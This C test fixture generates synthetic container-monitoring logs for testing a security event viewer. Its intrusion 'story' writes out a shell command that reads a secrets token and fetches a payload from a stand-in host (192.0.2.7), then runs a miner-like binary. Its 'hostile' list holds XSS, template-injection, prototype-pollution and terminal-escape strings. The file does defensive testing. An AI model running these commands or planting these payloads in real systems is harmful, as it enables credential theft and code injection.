/* SPDX-License-Identifier: Apache-2.0 */
/*
 * sample WHAT LOG [COUNT]: a log directory for the tests of what the responder shows, WHAT being
 *   story    a web server's container that somebody comes into, and a session from outside
 *   hostile  names, arguments and addresses that want to be more than text
 *   many     COUNT records of a busy container
 *   lossy    the story, with a loss in it
 */
#include "tests/unit/responder_sample.h"

#define MS 1000000LL

static struct sample s;
static struct sample_container web = {.id = SAMPLE_ID, .name = "web", .in_pod = true};
static struct sample_container side = {.id = SAMPLE_ID2, .name = "proxy", .in_pod = true};

/* The next record comes so long after the last one. */
static void after(int64_t ns)
{
	s.now_ns += ns - SAMPLE_SEC;
}

/* As sample_exec(), of a process with a user and a start in the container. */
static void run(unsigned int pid, unsigned int parent, const char *path, const char *args)
{
	sample_fork(&s, &web, pid, parent, "nginx");
	after(2 * MS);
	sample_exec(&s, &web, pid, parent, path, args, !strncmp(path, "/tmp", 4));
	after(7 * MS);
}

static void session(unsigned int pid)
{
	Varve__V1__Entry entry = VARVE__V1__ENTRY__INIT;
	Varve__V1__Fork body = VARVE__V1__FORK__INIT;
	struct sample_event e;

	sample_begin(&s, &e, &web, 16);
	e.ev.fork = &body;
	sample_process(&e, pid, 3990, "runc:[2:INIT]");
	entry.how = (char *)"session";
	entry.process_uid = e.process.process_uid;
	e.process.entry = &entry;
	sample_number(&e);
	sample_put(&s, &e);
	sample_exec(&s, &web, pid, 3990, "/bin/sh", "/bin/sh", false);
}

static void refused(unsigned int pid, const char *path)
{
	Varve__V1__Open body = VARVE__V1__OPEN__INIT;
	Varve__V1__File file = VARVE__V1__FILE__INIT;
	struct sample_event e;

	file.path = (char *)path;
	body.file = &file;
	SAMPLE_SET(&body, call_errno, EACCES);
	sample_begin(&s, &e, &web, 21);
	e.ev.open = &body;
	sample_process(&e, pid, 4201, "sh");
	sample_number(&e);
	sample_put(&s, &e);
}

static void serve(int requests)
{
	char path[64];

	for (int i = 0; i < requests; i++) {
		snprintf(path, sizeof(path), "/usr/share/nginx/html/page-%d.html", i % 40);
		sample_open_file(&s, &web, 4201, path, SAMPLE_READ);
		after((37 + i * 7919 % 400) * MS);
	}
}

static void intrude(void)
{
	run(4300, 4201, "/bin/sh",
	    "sh|-c|id; cat /run/secrets/token; wget -O /tmp/.x http://192.0.2.7/x");
	run(4301, 4300, "/usr/bin/id", "id");
	sample_exit(&s, &web, 4301, 4300, 0, 0);
	sample_open_file(&s, &web, 4300, "/run/secrets/token", SAMPLE_READ);
	refused(4300, "/etc/shadow");
	run(4302, 4300, "/usr/bin/wget", "wget|-O|/tmp/.x|http://192.0.2.7/x");
	sample_connect(&s, &web, 4302, "connected", false);
	sample_open_file(&s, &web, 4302, "/tmp/.x", SAMPLE_CREATE);
	sample_exit(&s, &web, 4302, 4300, 0, 0);
	run(4303, 4300, "/tmp/.x", "/tmp/.x|--pool|192.0.2.7:4444");
	sample_connect(&s, &web, 4303, "failed", false);
	for (unsigned int i = 0; i < 12; i++) {
		run(4310 + i, 4303, "/bin/nice", "nice|-n|19|/tmp/.x|worker");
		sample_exit(&s, &web, 4310 + i, 4303, 0, 9);
	}
}

static void story(bool lossy)
{
	int64_t lost_ns;

	sample_run_start(&s, NULL, 0);
	sample_start(&s, &side, false);
	sample_start(&s, &web, false);
	sample_fork(&s, &web, 4201, 3990, "runc:[2:INIT]");
	sample_exec(&s, &web, 4201, 3990, "/usr/sbin/nginx", "nginx|-g|daemon off;", false);
	serve(300);
	lost_ns = s.now_ns;
	intrude();
	serve(200);
	session(4400);
	run(4401, 4400, "/bin/ps", "ps|aux");
	sample_exit(&s, &web, 4401, 4400, 0, 0);
	sample_exit(&s, &web, 4400, 3990, 130, 0);
	if (lossy)
		sample_loss(&s, &web, "file", 17, lost_ns, lost_ns + SAMPLE_SEC);
	sample_exit(&s, &web, 4201, 3990, 0, 15);
	sample_stop(&s, &web);
	sample_stop(&s, &side);
	sample_account(&s, &web, true, lossy ? 17 : 0, 0);
	sample_account(&s, &side, true, 0, 0);
	sample_heartbeat(&s);
	sample_run_end(&s);
}

/* --- hostile */

static const char *const hostile_texts[] = {
	"</script><script>window.pwned=1</script>",
	"<img src=x onerror=\"window.pwned=2\">",
	"<!--<script>window.pwned=3",
	"]]>'\"><svg onload=window.pwned=4>",
	"javascript:window.pwned=5//",
	"{{constructor.constructor('window.pwned=6')()}}",
	"\xe2\x80\xae"
	"gnp.exe\xe2\x80\xac \xe2\x80\xa8 \xe2\x80\xa9 \xef\xbb\xbf \xf3\xa0\x81\x81",
	"\x1b]0;title\x07\x1b[31m\r\n\t\x7f\xc2\x9b",
	"not UTF-8: \xff\xc0\xaf\xed\xa0\x80\xf5",
	"&lt;b&gt; &amp; \\u003cscript\\u003e \\\"",
	"https://192.0.2.1/beacon.png",
	"__proto__",
};

static void hostile_open(const char *text)
{
	Varve__V1__Open body = VARVE__V1__OPEN__INIT;
	Varve__V1__File file = VARVE__V1__FILE__INIT;
	struct sample_event e;

	file.path = (char *)text;
	file.has_path_raw = 1;
	file.path_raw = (ProtobufCBinaryData){.len = strlen(text), .data = (uint8_t *)text};
	body.file = &file;
	SAMPLE_SET(&body, created, 1);
	sample_begin(&s, &e, &web, 21);
	e.ev.open = &body;
	sample_process(&e, 4201, 3990, text);
	e.process.exe_path = e.process.cmd_line = e.parent.exe_path = (char *)text;
	e.parent.name = e.parent.cmd_line = (char *)text;
	sample_number(&e);
	sample_put(&s, &e);
}

/* A kind that nobody knows, a process that is named like a property, a ring of parents. */
static void hostile_odd(void)
{
	struct sample_event e;

	sample_begin(&s, &e, &web, 16);
	e.ev.kind = (char *)"<script>window.pwned=7</script>";
	e.ev.body_case = VARVE__V1__EVENT__BODY__NOT_SET;
	sample_process(&e, 4201, 3990, "x");
	e.process.process_uid = (char *)"__proto__";
	e.parent.process_uid = (char *)"constructor";
	sample_put(&s, &e);
	sample_fork(&s, &web, 1, 2, "ring");
	sample_fork(&s, &web, 2, 1, "ring");
	sample_fork(&s, &web, 3, 3, "self");
	s.now_ns = INT64_MAX - 2 * SAMPLE_SEC;
	sample_fork(&s, &web, 5, 1, "at the end of time");
}

static void hostile(void)
{
	web.name = hostile_texts[0];
	web.pod_name = hostile_texts[1];
	sample_run_start(&s, NULL, 0);
	sample_start(&s, &web, false);
	for (size_t i = 0; i < ARRAY_SIZE(hostile_texts); i++) {
		hostile_open(hostile_texts[i]);
		sample_exec(&s, &web, 5000 + i, 4201, hostile_texts[i], hostile_texts[i], true);
	}
	hostile_odd();
}

/* --- many */

static void many(unsigned long count)
{
	char path[96];

	sample_run_start(&s, NULL, 0);
	sample_start(&s, &web, false);
	for (unsigned long i = 0; s.cnt < count; i++) {
		unsigned int pid = 10000 + i / 50;

		after(3 * MS);
		if (i % 50 == 0)
			run(pid, i % 500 ? pid - 1 : 4201, "/usr/bin/make", "make|-j8|all");
		snprintf(path, sizeof(path), "/build/obj/%lu/part-%lu.o", i % 977, i);
		sample_open_file(&s, &web, pid, path, i % 3 ? SAMPLE_READ : SAMPLE_CREATE);
	}
	sample_heartbeat(&s);
}

int main(int argc, char **argv)
{
	const char *what = argc > 2 ? argv[1] : "";

	sample_init(&s);
	if (!strcmp(what, "story") || !strcmp(what, "lossy"))
		story(*what == 'l');
	else if (!strcmp(what, "hostile"))
		hostile();
	else if (!strcmp(what, "many") && argc > 3)
		many(strtoul(argv[3], NULL, 10));
	else
		return fprintf(stderr, "usage: sample story|lossy|hostile|many LOG [COUNT]\n"), 2;
	sample_write_log(&s, argv[2], 64 << 20);
	sample_fini(&s);
	return 0;
}
